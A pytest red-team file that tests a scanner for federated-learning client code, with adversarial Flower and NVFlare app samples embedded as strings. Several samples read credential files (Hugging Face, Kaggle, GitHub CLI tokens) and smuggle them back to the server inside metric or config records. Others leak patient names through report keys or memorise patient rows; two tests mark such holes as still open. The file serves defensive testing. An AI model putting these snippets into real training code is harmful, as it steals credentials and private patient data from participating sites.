"""Red team 43b: Flower apps, notebooks and mixed jobs written by an adversary who read the source.

The hole: a secret (a tool's token file, a credential environment variable) handed to a library call by its bare
name (`MetricRecord({...})`, `ConfigRecord({...})`, `array(...)`, `tensor(...)` imported by name) left the call's
result without it: the flow dropped every secret a library call was given, for the sake of a token passed to a
download. A Flower app wraps everything it sends in such calls, so its token file reached the server accepted.
Now only calls that log in or download with a credential (rules/flow/secrets.yaml credential_users) leave it out.

Also: sklearn's classification_report was vouched as a metric whole, but its keys are every label it is handed (of
a name column, every patient's name); it is now a statistic like np.unique (rules/flow/reductions.yaml).
"""

from __future__ import annotations

import pytest

import redteam_kit as kit

SECRET = "credential-harvest.secret-in-channel"

# A Flower ClientApp (Message API) whose train() sends `metrics` in a MetricRecord and `config` in a ConfigRecord;
# `{read}` binds `raw` (what the attack sends), `{send}` fills metrics/config from it.
FLOWER_APP = '''import os
from pathlib import Path

from numpy import array
from torch import tensor
import torch
from flwr.app import ArrayRecord, ConfigRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.train()
def train(msg: Message, context: Context):
    net = torch.nn.Linear(8, 1)
    net.load_state_dict(msg.content["arrays"].to_torch_state_dict())
{read}
    metrics = {{"train_loss": 0.5}}
    config = {{"optimizer": "adam"}}
{send}
    content = RecordDict({{"arrays": ArrayRecord(net.state_dict()), "metrics": MetricRecord(metrics),
                          "config": ConfigRecord(config)}})
    return Message(content=content, reply_to=msg)
'''

TOKEN_READS = {
    "hf_token_joined": '    raw = open(os.path.join(os.path.expanduser("~"), ".cache", "huggingface", "token")).read()',
    "kaggle_pathlib": '    raw = (Path.home() / ".kaggle" / "kaggle.json").read_text()',
    "gh_hosts": '    raw = open(os.path.expanduser("~/.config/gh/hosts.yml")).read()',
}

SENDS = {
    "metric_text": '    metrics["warmup"] = raw',
    "config_text": '    config["cache"] = raw',
    "numpy_codes": '    metrics["warmup"] = array([ord(c) for c in raw], dtype="float64").tolist()',
    "torch_codes": '    metrics["warmup"] = tensor([float(ord(c)) for c in raw]).tolist()',
    "bytes_list": '    metrics["warmup"] = [float(b) for b in raw.encode()]',
}


def flower_app(read: str, send: str) -> str:
    return FLOWER_APP.format(read=read, send=send)


@pytest.mark.parametrize("read", sorted(TOKEN_READS))
@pytest.mark.parametrize("send", sorted(SENDS))
def test_a_token_file_in_a_flower_reply_is_rejected(read: str, send: str) -> None:
    report = kit.scan_text(flower_app(TOKEN_READS[read], SENDS[send]), "tabflow/client_app.py")
    kit.assert_held(report, SECRET, kit.Decision.REJECT)


@pytest.mark.parametrize("send", sorted(SENDS))
def test_the_jobs_own_text_file_in_a_flower_reply_stays_accepted(send: str) -> None:
    read = '    raw = open(os.path.join(os.path.dirname(__file__), "warmup.txt")).read()'
    kit.assert_accepted(kit.scan_text(flower_app(read, SENDS[send]), "tabflow/client_app.py"))


def test_a_token_a_download_logs_in_with_is_not_in_the_download() -> None:
    """The nearest legitimate idiom: the site's token fetches pretrained weights; the path, and the metric of
    whether the file is there, are not the token (the download escalates for what it is, not as a secret)."""
    read = ('    token = os.environ.get("HF_TOKEN")\n'
            '    from huggingface_hub import hf_hub_download\n'
            '    raw = hf_hub_download("org/tabnet", "model.safetensors", token=token)')
    report = kit.scan_text(flower_app(read, '    metrics["has_backbone"] = float(os.path.exists(raw))'),
                           "tabflow/client_app.py")
    assert not kit.holds(report, SECRET), kit.findings(report)


def test_a_token_file_through_a_tokenizer_is_rejected(tmp_path) -> None:
    """A pretrained tokenizer called on the token file's text: its ids spell the token out."""
    source = '''import os
from transformers import AutoTokenizer
from flwr.app import Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()
tokenizer = AutoTokenizer.from_pretrained("bert-base-uncased", revision="86b5e0934494bd15c9632b12f734a8a67f723594")


@app.train()
def train(msg: Message, context: Context):
    note = open(os.path.expanduser("~/.cache/huggingface/token")).read()
    ids = tokenizer(note)["input_ids"]
    return Message(content=RecordDict({"metrics": MetricRecord({"prompt_ids": [float(i) for i in ids]})}),
                   reply_to=msg)
'''
    kit.assert_held(kit.scan_source(tmp_path, source, "tk.py"), SECRET, kit.Decision.REJECT)


def test_a_token_through_a_bare_name_call_in_an_nvflare_client_is_rejected(tmp_path) -> None:
    client = kit.ClientJob(imports="import os\nimport pandas as pd\nimport torch\nfrom numpy import frombuffer\n"
                                   "import nvflare.client as flare\n")
    decision, rules = client.verdict(
        tmp_path, 'raw = open(os.path.expanduser("~/.kaggle/kaggle.json")).read()',
        extra=', meta={"licence": frombuffer(raw.encode(), dtype="uint8").tolist()}')
    assert decision == "reject" and SECRET in rules, rules


# ---- the corpus samples ---------------------------------------------------------------------------------------------

ATTACKS = kit.corpus_samples("malicious/rt43b_*", "jobs/rt43b_*")
TWINS = kit.corpus_samples("benign/near_rt43b_*", "jobs/near_rt43b_*")
# what each attack sample is held by: a secret rejects, a classification report's labels escalate
HELD_BY = {"malicious/rt43b_flower_report_per_class.py": ("update-channel-leak.unknown-provenance",
                                                         kit.Decision.ESCALATE)}


def test_the_samples_are_labelled() -> None:
    labels = {e["path"]: e for e in kit.labelled("rt43b_")}
    assert len(ATTACKS) == 4 and len(TWINS) == 4
    assert all(labels[s]["kind"] == "malicious" for s in ATTACKS)
    assert all(labels[s]["kind"] == "benign" for s in TWINS)


@pytest.mark.parametrize("sample", ATTACKS)
def test_attack_sample_is_held(sample: str) -> None:
    kit.assert_held(kit.scan_sample(sample), *HELD_BY.get(sample, (SECRET, kit.Decision.REJECT)))


@pytest.mark.parametrize("sample", TWINS)
def test_twin_sample_stays_accepted(sample: str) -> None:
    kit.assert_accepted(kit.scan_sample(sample))


# ---- a metric report keyed by the labels it is handed ------------------------------------------------------------

REPORT_APP = '''import pandas as pd
from sklearn.metrics import classification_report, f1_score
from flwr.app import Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.evaluate()
def evaluate(msg: Message, context: Context):
    df = pd.read_csv(context.node_config["data-path"])
    y_true, y_pred = df[{column!r}], df[{column!r}]
{send}
    return Message(content=RecordDict({{"metrics": MetricRecord(metrics)}}), reply_to=msg)
'''

REPORT = '    report = classification_report(y_true, y_pred, output_dict=True, zero_division=0)\n'


def test_the_keys_of_a_classification_report_of_an_identifier_column_are_not_accepted() -> None:
    """The report's keys are every label of y_true and y_pred: of a name column, every patient's name."""
    send = REPORT + '    metrics = {f"f1_{k}": v["f1-score"] for k, v in report.items() if isinstance(v, dict)}'
    kit.assert_held(kit.scan_text(REPORT_APP.format(column="patient_name", send=send), "app/client_app.py"),
                    "update-channel-leak.unknown-provenance")


def test_a_classification_reports_average_in_the_update_is_reviewed() -> None:
    """The flow has no provenance of its own for a dict's keys: the whole report is a statistic (escalates)."""
    send = REPORT + '    metrics = {"macro_f1": report["macro avg"]["f1-score"]}'
    kit.assert_held(kit.scan_text(REPORT_APP.format(column="label", send=send), "app/client_app.py"),
                    decision=kit.Decision.ESCALATE)


def test_the_macro_f1_score_stays_accepted() -> None:
    send = '    metrics = {"macro_f1": f1_score(y_true, y_pred, average="macro")}'
    kit.assert_accepted(kit.scan_text(REPORT_APP.format(column="label", send=send), "app/client_app.py"))


def test_a_classification_report_in_the_log_is_reviewed(tmp_path) -> None:
    # keyed by every distinct label it is given, as the update's report above: in the job log (which NVFlare streams)
    # the gate cannot tell the site's classes from an identifier column either (red team 50b), so a person looks
    body = ("        from sklearn.metrics import classification_report\n"
            "        print(classification_report(Y.numpy() > 0.5, net(X).squeeze(-1).detach().numpy() > 0.5))\n")
    kit.assert_held(kit.scan_training_client(tmp_path, body), "update-channel-leak.unknown-provenance",
                    kit.Decision.ESCALATE)


# ---- found and left open --------------------------------------------------------------------------------------------

# One latent code per patient (an auto-decoder, as DeepSDF learns one code per shape): the model's input is the
# row's position, the site's rows are only the target, so the codes and the decoder sent back reproduce each row.
AUTO_DECODER_APP = '''import pandas as pd
import torch
import torch.nn.functional as F
from flwr.app import ArrayRecord, Context, Message, MetricRecord, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


class Reconstructor(torch.nn.Module):
    def __init__(self, n_rows: int, n_features: int, dim: int = 16):
        super().__init__()
        self.inner = {inner}
        self.decoder = torch.nn.Linear(dim, n_features)

    def forward(self, v):
        return self.decoder(torch.relu(self.inner(v)))


@app.train()
def train(msg: Message, context: Context):
    df = pd.read_csv(context.node_config["data-path"])
    x = torch.tensor(df.drop(columns=["label"]).values, dtype=torch.float32)
    model = Reconstructor(len(df), x.shape[1])
    model.load_state_dict(msg.content["arrays"].to_torch_state_dict())
    opt = torch.optim.Adam(model.parameters(), lr=1e-2)
    for _ in range(context.run_config["local-steps"]):
        opt.zero_grad()
        loss = F.mse_loss(model({given}), x)
        loss.backward()
        opt.step()
    metrics = MetricRecord({{"recon_loss": loss.item(), "num-examples": len(df)}})
    return Message(content=RecordDict({{"arrays": ArrayRecord(model.state_dict()), "metrics": metrics}}),
                   reply_to=msg)
'''


@pytest.mark.xfail(strict=True, reason="open: an optimizer step is vouched as training whatever the loss compares; "
                                       "a model whose input is the row's position and whose target is the row "
                                       "learns one code per row (its shape, one row per patient, is out of the "
                                       "flow's sight; the update filter checks shapes against the server's model, "
                                       "which the same job ships)")
def test_one_latent_code_per_patient_is_not_accepted() -> None:
    source = AUTO_DECODER_APP.format(inner="torch.nn.Embedding(n_rows, dim)", given="torch.arange(len(df))")
    kit.assert_held(kit.scan_text(source, "app/client_app.py"))


def test_an_autoencoder_of_the_rows_stays_accepted() -> None:
    source = AUTO_DECODER_APP.format(inner="torch.nn.Linear(n_features, dim)", given="x")
    kit.assert_accepted(kit.scan_text(source, "app/client_app.py"))


SUMMARY_APP = '''import pandas as pd
from flwr.app import ConfigRecord, Context, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.query()
def query(msg: Message, context: Context):
    df = pd.read_csv(context.node_config["data-path"])
    summary = df[{column!r}].describe()
    return Message(content=RecordDict({{"summary": ConfigRecord({{"value": str(summary[{key!r}])}})}}), reply_to=msg)
'''


@pytest.mark.xfail(strict=True, reason="open: describe() is a reduction, and the gate sees a column as text only "
                                       "once the code converts it (astype(str): text_extremes); `top` exists only "
                                       "for a column of text, and is its most common value, a record")
def test_the_most_common_value_of_a_text_column_is_not_accepted() -> None:
    kit.assert_held(kit.scan_text(SUMMARY_APP.format(column="patient_name", key="top"), "app/client_app.py"))


def test_the_mean_of_a_numeric_column_stays_accepted() -> None:
    kit.assert_accepted(kit.scan_text(SUMMARY_APP.format(column="age", key="mean"), "app/client_app.py"))
